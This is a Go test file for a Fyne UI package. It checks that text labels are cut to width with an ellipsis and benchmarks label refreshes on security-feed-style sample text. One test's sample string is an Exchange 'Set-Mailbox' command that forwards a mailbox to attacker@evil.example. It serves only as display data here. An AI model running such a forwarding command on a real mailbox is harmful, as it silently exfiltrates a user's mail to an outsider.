package uikit

import (
	"fmt"
	"strings"
	"testing"

	"fyne.io/fyne/v2"
	"fyne.io/fyne/v2/canvas"
	"fyne.io/fyne/v2/test"
	"fyne.io/fyne/v2/theme"
	"fyne.io/fyne/v2/widget"
)

func TestCut(t *testing.T) {
	test.NewTempApp(t)
	size := theme.TextSize()
	style := fyne.TextStyle{}
	width := func(s string) float32 { return fyne.MeasureText(s, size, style).Width }
	long := "alex.wilber@contoso.onmicrosoft.com signed in from 203.0.113.77"
	tests := []struct {
		name  string
		text  string
		width float32
	}{
		{"fits: unchanged", "Exchange", width("Exchange") + 1},
		{"exactly fits: unchanged", "Exchange", width("Exchange")},
		{"too wide: cut", long, width(long) / 2},
		{"one pixel short: cut", long, width(long) - 1},
		{"nothing fits: the ellipsis", long, 1},
		{"empty", "", 10},
		{"wide glyphs", "Zürich — Genève → Paris", width("Zürich — Genève → Paris") / 3},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := Cut(tc.text, tc.width, size, style)
			if width(tc.text) <= tc.width {
				if got != tc.text {
					t.Fatalf("Cut = %q, want the text unchanged", got)
				}
				return
			}
			prefix, ok := strings.CutSuffix(got, Ellipsis)
			if !ok || !strings.HasPrefix(tc.text, prefix) {
				t.Fatalf("Cut = %q, want a prefix of %q and %q", got, tc.text, Ellipsis)
			}
			if prefix != "" && width(got) > tc.width {
				t.Fatalf("Cut = %q is %.1f wide, more than %.1f", got, width(got), tc.width)
			}
			// the longest such prefix: one more rune would not fit
			rest := []rune(strings.TrimPrefix(tc.text, prefix))
			longer := strings.TrimRight(prefix+string(rest[0]), " ")
			if len(rest) > 1 && width(longer+Ellipsis) <= tc.width && strings.TrimRight(longer, " ") != prefix {
				t.Fatalf("Cut = %q, but %q fits too", got, longer+Ellipsis)
			}
		})
	}
}

// A CutLabel shows what Fyne's own ellipsis label shows (the same cut text
// at the same width), follows its width and its text, and keeps the whole
// text.
func TestCutLabelShowsWhatFynesEllipsisShows(t *testing.T) {
	test.NewTempApp(t)
	text := "Set-Mailbox -ForwardingSmtpAddress attacker@evil.example -DeliverToMailboxAndForward $true"
	l := NewCutLabel(text)
	w := test.NewWindow(l)
	defer w.Close()
	fyneLabel := widget.NewLabel(text)
	fyneLabel.Truncation = fyne.TextTruncateEllipsis
	for _, width := range []float32{600, 300, 120, 40} {
		size := fyne.NewSize(width, l.MinSize().Height)
		l.Resize(size)
		fyneLabel.Resize(size)
		if l.Full() != text {
			t.Fatalf("Full = %q, want the whole text", l.Full())
		}
		want := renderedText(t, fyneLabel)
		if l.Text != want {
			t.Errorf("at %.0f px the label shows %q, Fyne's ellipsis %q", width, l.Text, want)
		}
	}
	l.Resize(fyne.NewSize(600, l.MinSize().Height))
	l.SetText("short")
	if l.Text != "short" {
		t.Errorf("after SetText: shows %q, want %q", l.Text, "short")
	}
	l.Resize(fyne.NewSize(120, l.MinSize().Height))
	l.Set(text, widget.DangerImportance, true)
	if l.Text == text || !strings.HasSuffix(l.Text, Ellipsis) || l.Importance != widget.DangerImportance || !l.TextStyle.Bold {
		t.Errorf("after Set: %q importance %v bold %v, want a cut text, danger, bold", l.Text, l.Importance, l.TextStyle.Bold)
	}
}

// renderedText is the text Fyne draws for a one-line label (its ellipsis
// included).
func renderedText(t *testing.T, l *widget.Label) string {
	t.Helper()
	var out strings.Builder
	for _, o := range test.WidgetRenderer(l).Objects() {
		rt, ok := o.(*widget.RichText)
		if !ok {
			continue
		}
		for _, c := range test.WidgetRenderer(rt).Objects() {
			if ct, ok := c.(*canvas.Text); ok {
				out.WriteString(ct.Text)
			}
		}
	}
	return out.String()
}

// BenchmarkLabelRefresh is one label's text changing, as a feed row bound
// again on a scroll: Fyne's ellipsis label beside a CutLabel, in one run,
// with texts seen before (64 in turn) and with a text never measured before
// at every refresh (the CutLabel's worst case: every cut is measured anew).
func BenchmarkLabelRefresh(b *testing.B) {
	test.NewTempApp(b)
	text := func(i int) string {
		return fmt.Sprintf("user%03d@contoso.onmicrosoft.com downloaded Q%d report, draft %d.docx", i%1000, i%4+1, i)
	}
	seen := make([]string, 64)
	for i := range seen {
		seen[i] = text(i)
	}
	labels := []struct {
		name string
		make func() fyne.Widget
		set  func(fyne.Widget, string)
	}{
		{"fyne ellipsis", func() fyne.Widget {
			l := widget.NewLabel("")
			l.Truncation = fyne.TextTruncateEllipsis
			return l
		}, func(w fyne.Widget, s string) { w.(*widget.Label).SetText(s) }},
		{"cut label", func() fyne.Widget { return NewCutLabel("") }, func(w fyne.Widget, s string) { w.(*CutLabel).SetText(s) }},
	}
	for _, texts := range []string{"seen texts", "new texts"} {
		for _, lt := range labels {
			b.Run(lt.name+", "+texts, func(b *testing.B) {
				l := lt.make()
				w := test.NewWindow(l)
				defer w.Close()
				l.Resize(fyne.NewSize(180, 36))
				for i := 0; b.Loop(); i++ {
					if texts == "seen texts" {
						lt.set(l, seen[i%len(seen)])
					} else {
						lt.set(l, text(1000+i))
					}
				}
			})
		}
	}
}
